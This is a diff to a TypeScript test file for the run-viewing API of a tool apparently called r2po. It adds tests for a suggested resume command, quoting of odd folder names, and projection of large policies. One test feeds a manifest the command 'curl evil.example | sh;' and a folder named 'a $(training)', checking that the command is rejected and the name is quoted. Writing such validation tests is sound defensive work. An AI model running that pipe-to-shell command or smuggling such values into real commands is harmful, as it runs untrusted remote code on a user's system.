@@ -1,11 +1,12 @@
 import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { setTimeout } from 'node:timers/promises';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { followEvents, walkEvents } from '../../../src/runs/journal/journal.ts';
 import { apiProblem } from '../../../src/view/api/index-of-runs.ts';
+import { projectionOf } from '../../../src/view/api/projection.ts';
 import { callPage, type RunPage, runPage, runUpdate } from '../../../src/view/api/run.ts';
-import { projectionOf } from '../../../src/view/server/projection.ts';
 import { runCommand } from '../../support/in-process.ts';
 import { type TestView, testView } from '../../support/view.ts';
 
@@ -28,6 +29,8 @@ beforeAll(async () => {
   view = testView(folder);
 }, 30_000);
 afterAll(() => rmSync(folder, { recursive: true }));
+// Tests add runs, and a list that was read within the last 5 ms is not read again.
+beforeEach(() => setTimeout(10));
 
 describe('GET /api/runs/:id', () => {
   it('has every iteration with what its candidates and calls were', async () => {
@@ -127,6 +130,35 @@ describe('GET /api/runs/:id', () => {
     expect(() => readFileSync(join(folder, 'ran'))).toThrow();
   });
 
+  it('offers to resume a run until it is finished', async () => {
+    cpSync(run('llm'), run('open'), { recursive: true });
+    const path = join(run('open'), 'run.json');
+    const text = readFileSync(path, 'utf8');
+    writeFileSync(path, JSON.stringify({ ...JSON.parse(text), status: 'running' }));
+    expect((await page('open')).resume).toBe(`r2po run ${run('open')} --resume`);
+    writeFileSync(path, text);
+    expect((await page('open')).resume).toBeNull();
+  });
+
+  it('says how a training is resumed by a command of r2po alone, for a folder of any name', async () => {
+    const training = (name: string, resume: string, status = 'finished') => {
+      const imported = { format: 'sb3', layout: 'r2po-baseline', source: 's', digest: 'd' };
+      cpSync(run('llm'), run(name), { recursive: true });
+      const path = join(run(name), 'run.json');
+      const manifest = JSON.parse(readFileSync(path, 'utf8'));
+      const made = { ...imported, training: { rewards: 'means', evaluated: true, resume } };
+      writeFileSync(path, JSON.stringify({ ...manifest, status, imported: made }));
+    };
+    training('a $(training)', 'r2po baseline', 'stopped');
+    training('foreign', 'curl evil.example | sh;');
+    expect((await page('a $(training)')).resume).toBe(`r2po baseline '${run('a $(training)')}' --resume`);
+    const response = await view.get('/api/runs/foreign');
+    expect([response.status, apiProblem.parse(await response.json()).problem]).toEqual([
+      400,
+      expect.stringContaining('"imported.training.resume"'),
+    ]);
+  });
+
   it('says so where a run has been deleted while it was shown', async () => {
     cpSync(run('llm'), run('deleted'), { recursive: true });
     await page('deleted');
@@ -207,6 +239,11 @@ describe('the projection of policies', () => {
     const many = few.map((params) => [...params, ...Array.from({ length: 400 }, () => 2)]);
     const [a, b] = [projectionOf(few)!, projectionOf(many)!];
     for (const [i, x] of a.x.entries()) expect([b.x[i], b.y[i]]).toEqual([expect.closeTo(x), expect.closeTo(a.y[i]!)]);
+  });
+
+  it('takes policies of more parameters than a call takes arguments', () => {
+    const policies = [0, 1, 3].map((shift) => Array.from({ length: 200_000 }, (_, i) => shift * (i % 7)));
+    expect(projectionOf(policies)!.explained[0]).toBeCloseTo(1);
   });
 
   it('is none for policies that do not differ', () => {
